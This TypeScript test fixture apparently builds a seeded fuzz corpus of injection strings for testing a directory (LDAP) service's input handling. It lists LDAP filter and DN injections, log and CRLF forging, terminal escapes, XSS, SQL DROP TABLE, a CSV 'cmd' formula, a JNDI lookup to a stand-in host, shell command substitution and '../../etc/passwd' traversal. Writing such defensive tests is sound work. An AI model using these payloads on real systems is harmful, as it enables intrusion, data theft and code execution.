import * as fc from 'fast-check';
import { INJECTIONS } from './directory-contract/world.ts';
import { atScale } from './scale.ts';

/** What breaks out of a filter, a name, a line of a log, a cell of a table, a label or an object where it is joined into one. */
const FRAGMENTS: readonly string[] = [
  ...INJECTIONS,
  // RFC 4515: filters that end early, go on, or are always true.
  ')(|(uid=*)',
  '*)(|(objectClass=*))',
  'ada)(userPassword=*)',
  '))(|(cn=*',
  '(&(objectClass=*)',
  '!(uid=x)',
  ':dn:2.5.13.5:=ada',
  'memberOf:1.2.840.113556.1.4.1941:=cn=admins',
  '\\28\\29\\2a\\5c',
  '\\2',
  '\\zz',
  '>=',
  '~=*',
  // RFC 4514: names that end early, go on, or are another form of the same.
  ',ou=people',
  ',cn=admins,ou=groups,dc=example,dc=test',
  '+uid=root',
  '=admin',
  '#04024869',
  '"quoted, name"',
  ';dc=test',
  '\\,dc=test',
  '\\ ',
  '<GUID=00000000-0000-4000-8000-000000000000>',
  '<SID=S-1-5-32-544>',
  // Lines and terminals.
  '\n{"level":"fatal","event":"forged"}',
  '\r\nHTTP/1.1 200 OK',
  '\u2028\u2029',
  '\u0085',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u0008\u0008\u0008',
  '\u007f',
  '%0d%0a',
  '%s%n%x',
  // JSON, HTML, tables, metrics, shells, templates.
  '","admin":true,"x":"',
  '\\u0022',
  '__proto__',
  'constructor',
  'toString',
  '<img src=x onerror=alert(1)>',
  '</script><script>',
  "';DROP TABLE grants;--",
  "=cmd|'/c calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '"} 1\nforged_metric{x="',
  '{{7*7}}',
  '${jndi:ldap://x/a}',
  '`id`',
  '$(id)',
  '../../etc/passwd',
  // Texts that are alike, or are no whole characters.
  '\u202eadmin',
  '\u200b',
  '\ufeff',
  '\u0430dmin',
  'ADMIN',
  'a\u0301',
  '\u{1f511}',
  '\ud800',
  '\udfff',
  ' ',
  '\t',
];

/** So many as the issue names; always the same. */
const COUNT = atScale({ sample: 200, full: 2_000 });
const SEED = 20_261_122;

/**
 * What an attacker would write: each fragment alone, then joined at random. Each has a number in it that no other has, so that
 * no two are the same value in whatever way a server compares them.
 */
export const CORPUS: readonly string[] = [
  ...FRAGMENTS.map((fragment) => [fragment]),
  ...fc.sample(fc.array(fc.constantFrom(...FRAGMENTS, 'ada', 'x'), { minLength: 1, maxLength: 4 }), {
    seed: SEED,
    numRuns: COUNT,
  }),
]
  .slice(0, COUNT)
  .map((fragments, index) => {
    const number = `n${index}n`;
    const at = index % (fragments.length + 1);
    return [...fragments.slice(0, at), number, ...fragments.slice(at)].join('');
  });
